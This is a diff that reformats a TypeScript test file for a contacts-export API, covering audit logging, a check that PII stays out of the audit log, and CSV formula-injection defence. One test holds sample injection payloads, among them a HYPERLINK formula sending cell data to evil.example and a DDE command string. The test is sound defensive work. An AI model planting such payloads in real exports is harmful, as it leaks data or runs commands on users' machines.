@@ -105,9 +105,7 @@ test('each export appends an audit entry naming the exporting key and the row co
   const auditOf = async () => {
     const res = await app.request('GET', '/v1/audit-log?limit=500', { key: tenant.key });
     assert.equal(res.status, 200, res.text);
-    return (res.body.items as { action: string; actorKeyId: string; details: Record<string, unknown> }[]).filter(
-      (e) => e.action === 'contacts.export',
-    );
+    return (res.body.items as { action: string; actorKeyId: string; details: Record<string, unknown> }[]).filter((e) => e.action === 'contacts.export');
   };
   const before = await auditOf();
   await exportAs(admin.key);
@@ -122,7 +120,10 @@ test('each export appends an audit entry naming the exporting key and the row co
       [tenant.id, PEOPLE.length + 1, true],
     ],
   );
-  assert.ok(entries.every((e) => !JSON.stringify(e).includes('8613800138000')), 'no PII in the audit log');
+  assert.ok(
+    entries.every((e) => !JSON.stringify(e).includes('8613800138000')),
+    'no PII in the audit log',
+  );
 
   const viewer = await newKey(app, 'viewer', tenant.key);
   const forbidden = await app.request('GET', '/v1/audit-log', { key: viewer.key });
@@ -137,7 +138,12 @@ test('a CRM number kept as typed cannot smuggle a formula into the phone column'
   const crmTenant = await newTenant(app, 'CRM formulas');
   const typed = ['=HYPERLINK("http://evil.example/?q="&A1,"call")', '@SUM(1+1)', '-2+3+cmd|calc!A0', '+86 138 0013 80xx'];
   for (const [i, phone] of typed.entries()) {
-    const { contact } = await upsertContact(app.deps, crmTenant.tenantId, { name: `CRM ${i}`, phone, crm: { system: 'salesforce', externalId: `003${i}` } }, 'crm');
+    const { contact } = await upsertContact(
+      app.deps,
+      crmTenant.tenantId,
+      { name: `CRM ${i}`, phone, crm: { system: 'salesforce', externalId: `003${i}` } },
+      'crm',
+    );
     assert.equal(contact.phoneValid, false, phone);
   }
   const rows = rowsOf((await exportAs(crmTenant.key)).text);
